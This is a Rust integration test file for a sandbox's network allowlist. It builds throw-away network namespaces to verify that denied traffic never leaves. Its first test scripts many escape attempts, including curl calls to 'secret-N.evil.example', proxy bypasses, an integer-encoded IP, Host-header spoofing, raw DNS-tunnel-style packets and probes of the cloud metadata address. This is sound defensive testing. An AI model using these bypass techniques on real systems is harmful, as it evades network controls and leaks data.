//! The way out of a sandbox, end to end: `run` inside a throw-away machine whose only other machine is a
//! name server and a web server of ours, behind a wire on which every packet is counted.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
#![expect(clippy::print_stdout, reason = "what is skipped says why")]

#[expect(dead_code, reason = "the other suites use the rest")]
mod support;

use std::fs;
use std::process::{Command, Stdio};
use support::{Place, program};

/// What the other machine does: answers every name with its own address, and every connection with
/// `reached`. What it is asked is in `asked`.
const FAR: &str = r#"
import socket, sys, threading
place = sys.argv[1]
log = open(place + "/asked", "a", buffering=1)
names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
names.bind(("203.0.113.5", 53))
def resolve():
    while True:
        query, client = names.recvfrom(4096)
        at, labels = 12, []
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += 1 + query[at]
        kind = query[at + 1 : at + 3]
        log.write("name " + ".".join(labels) + "\n")
        address = kind == b"\0\x01"
        head = query[:2] + b"\x81\x80\0\x01\0" + (b"\x01" if address else b"\0") + b"\0\0\0\0"
        answer = b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04" + socket.inet_aton("203.0.113.5")
        names.sendto(head + query[12 : at + 5] + (answer if address else b""), client)
def serve(port):
    server = socket.create_server(("203.0.113.5", port))
    while True:
        stream, _ = server.accept()
        log.write("connection %d\n" % port)
        if port == 80:
            head = b""
            while b"\r\n\r\n" not in head:
                head += stream.recv(4096)
            stream.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\n")
        stream.sendall(b"reached")
        stream.close()
for port in (80, 443, 5432):
    threading.Thread(target=serve, args=(port,), daemon=True).start()
open(place + "/ready", "w").close()
resolve()
"#;

/// Two machines and a wire between them: this one at `near0`. Then the test's own part.
const MACHINES: &str = r#"
set -e
mount --make-rprivate /
ip link set lo up
unshare --net sleep 300 &
far=$!
while [ "$(readlink /proc/$far/ns/net)" = "$(readlink /proc/self/ns/net)" ]; do sleep 0.05; done
ip link add near0 type veth peer name far0 netns $far
ip addr add 203.0.113.1/24 dev near0
ip link set near0 up
# A default route, so that nothing fails for want of one.
ip route add default via 203.0.113.5
nsenter --net=/proc/$far/ns/net sh -c 'ip link set lo up; ip addr add 203.0.113.5/24 dev far0; ip link set far0 up'
nsenter --net=/proc/$far/ns/net python3 "$PLACE/far.py" "$PLACE" &
while [ ! -e "$PLACE/ready" ]; do sleep 0.05; done
for file in resolv.conf hosts; do
  mount --bind "$PLACE/$file" "$(readlink -f /etc/$file)"
done
# What the other machine received from this one. Not counted is what both kernels say by themselves (ARP,
# IPv6 neighbours), which no packet of somebody's would stop at.
packets() { nsenter --net=/proc/$far/ns/net awk '/^Ip: [0-9]/ { print $4 }' /proc/net/snmp; }
. "$PLACE/script"
"#;

/// Why two machines cannot be made here.
fn unavailable() -> Option<String> {
    for probe in [
        "python3 --version",
        "unshare --user --map-root-user --net --mount --pid --fork --mount-proc ip link add near0 type veth peer name far0",
        "nsenter --version",
    ] {
        let output = Command::new("sh").args(["-c", probe]).output().unwrap();
        if !output.status.success() {
            let said = String::from_utf8_lossy(&output.stderr).trim().to_owned();
            return Some(format!("`{probe}` fails here: {said}"));
        }
    }
    None
}

/// Runs a script beside the other machine; what it wrote, and what the other machine was asked.
fn between_machines(place: &Place, settings: &str, script: &str) -> Option<(String, String)> {
    if let Some(why) = unavailable() {
        println!("SKIP no two machines: {why}");
        return None;
    }
    place.write("far.py", FAR).write("script", script);
    place.write("resolv.conf", "nameserver 203.0.113.5\n");
    place.write("hosts", "127.0.0.1 localhost\n203.0.113.5 listed.example\n");
    place.write("home/.claude/settings.json", settings);
    let mut command = Command::new("unshare");
    command
        .args(["--user", "--map-root-user", "--net", "--mount", "--pid", "--fork"])
        .args(["--mount-proc", "--kill-child", "bash", "-c", MACHINES])
        .current_dir(place.project())
        .env_clear()
        .env("PATH", "/usr/bin:/bin:/usr/sbin:/sbin")
        .env("HOME", place.home())
        .env("PLACE", place.path())
        .env("PORTCULLIS", program())
        .stdin(Stdio::null());
    let output = command.output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    if errors.contains("the sandbox cannot") {
        println!("SKIP the boundary cannot be built in a namespace here: {errors}");
        return None;
    }
    let asked = fs::read_to_string(place.path().join("asked")).unwrap_or_default();
    Some((format!("{said}{errors}"), asked))
}

#[test]
fn nothing_leaves_for_what_is_not_allowed() {
    let place = Place::new();
    let settings = r#"{"sandbox":{"network":{"strictAllowlist":true,"allowedDomains":["far.example"],"deniedDomains":["bad.far.example"]}}}"#;
    // Every way a program may try, with the variables and without; none of it is allowed.
    let script = r#"
cat > "$PLACE/tries.sh" << 'TRIES'
curl -sS -m 5 http://secret-1.evil.example/
curl -sS -m 5 https://secret-2.evil.example/
curl -sS -m 5 --noproxy '*' http://secret-3.evil.example/
curl -sS -m 5 --noproxy '*' https://bad.far.example/
curl -sS -m 5 -x "$FTP_PROXY" http://secret-4.evil.example/
curl -sS -m 5 --noproxy '*' http://203.0.113.5/
curl -sS -m 5 http://203.0.113.5/
curl -sS -m 5 http://3405803781/
curl -sS -m 5 http://far.example.evil.example/
curl -sS -m 5 --noproxy '*' --resolve far.example:443:203.0.113.5 http://far.example:443/
curl -sS -m 5 -H 'Host: far.example' http://evil.example/
getent hosts secret-5.evil.example
python3 - << 'PYTHON'
import socket
for kind, to in (("udp", ("203.0.113.5", 53)), ("udp", ("8.8.8.8", 53)), ("udp", ("203.0.113.5", 9)), ("tcp", ("203.0.113.5", 443)), ("tcp", ("203.0.113.5", 5432)), ("tcp", ("192.0.2.1", 80)), ("tcp", ("169.254.169.254", 80))):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(to)
        s.send(b"\1\2\1\0\0\1\0\0\0\0\0\0\6secret\4evil\0\0\1\0\1")
        print(kind, to, s.recv(100)[3:4])
    except OSError as error:
        print(kind, to, error)
PYTHON
exit 1
TRIES
"$PORTCULLIS" run --report "$PLACE/report" -- sh "$PLACE/tries.sh" || true
echo "packets $(packets)"
"#;
    let Some((said, asked)) = between_machines(&place, settings, script) else { return };
    assert!(said.contains("\npackets 0\n") || said.starts_with("packets 0\n"), "{said}\n{asked}");
    assert_eq!(asked, "", "{said}");
    assert!(!said.contains("reached"), "{said}");
    // Each is told to whoever started it, with the cure.
    let report = place.read("report");
    for host in [
        "secret-1.evil.example",
        "secret-2.evil.example",
        "secret-3.evil.example",
        "bad.far.example",
        "secret-4.evil.example",
        "203.0.113.5",
        "far.example.evil.example",
        "192.0.2.1",
        "169.254.169.254",
    ] {
        assert!(report.contains(&format!("\"host\":\"{host}\"")), "{host}\n{report}");
    }
    assert!(said.contains("denied connection to secret-1.evil.example:80"), "{said}");
    assert!(said.contains("allowedDomains"), "{said}");
}

#[test]
fn programs_that_mind_no_variables_reach_what_is_allowed() {
    let place = Place::new();
    let settings = r#"{"sandbox":{"network":{"strictAllowlist":true,"allowedDomains":["far.example","db.example:5432","listed.example:80","203.0.113.5:443"]}}}"#;
    let script = r#"
cat > "$PLACE/tries.sh" << 'TRIES'
echo "variables: $(curl -sS -m 20 http://far.example/)"
echo "none: $(curl -sS -m 20 --noproxy '*' http://far.example/)"
echo "hosts file: $(curl -sS -m 20 --noproxy '*' http://listed.example/)"
python3 - << 'PYTHON'
import socket
def talk(about, to):
    with socket.create_connection(to, 20) as s:
        print(about + ":", s.makefile().read(7))
talk("named port", ("db.example", 5432))
talk("address", ("203.0.113.5", 443))
def stub(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect((to, 53))
        s.send(b"\1\2\1\0\0\1\0\0\0\0\0\0\3far\7example\0\0\1\0\1")
        return s.recv(512)[-4:-2] == bytes([198, 18])
print("other name server:", stub("8.8.8.8"))
PYTHON
TRIES
"$PORTCULLIS" run --report "$PLACE/report" -- sh "$PLACE/tries.sh"
echo "status $?"
echo "packets $(packets)"
"#;
    let Some((said, asked)) = between_machines(&place, settings, script) else { return };
    for line in [
        "variables: reached",
        "none: reached",
        "hosts file: reached",
        "named port: reached",
        "address: reached",
        "other name server: True",
        "status 0",
    ] {
        assert!(said.lines().any(|own| own == line), "{line}\n{said}\n{asked}");
    }
    // The counter of the other test counts.
    let packets = said.lines().find_map(|line| line.strip_prefix("packets ")).unwrap();
    assert!(packets.parse::<u32>().unwrap() > 20, "{said}");
    assert!(asked.contains("name far.example\n") && asked.contains("name db.example\n"), "{asked}");
    assert!(!asked.contains("listed.example"), "{asked}");
}

#[test]
fn a_launcher_that_is_killed_leaves_no_way_out() {
    let place = Place::new();
    let settings = r#"{"sandbox":{"network":{"allowedDomains":["far.example"]}}}"#;
    let script = r#"
cat > "$PLACE/loop.sh" << 'LOOP'
while :; do curl -sS -m 5 http://far.example/ > /dev/null 2>&1; : > went; done
LOOP
"$PORTCULLIS" run -- sh "$PLACE/loop.sh" &
launcher=$!
while [ ! -e went ]; do sleep 0.05; done
kill -KILL $launcher
wait $launcher || true
sleep 1
before=$(packets)
rm -f went
sleep 2
[ -e went ] && echo "goes on"
echo "more packets $(( $(packets) - before ))"
"#;
    let Some((said, asked)) = between_machines(&place, settings, script) else { return };
    assert!(said.contains("more packets 0\n"), "{said}");
    assert!(!said.contains("goes on"), "{said}");
    assert!(asked.contains("connection 80"), "{asked}");
}
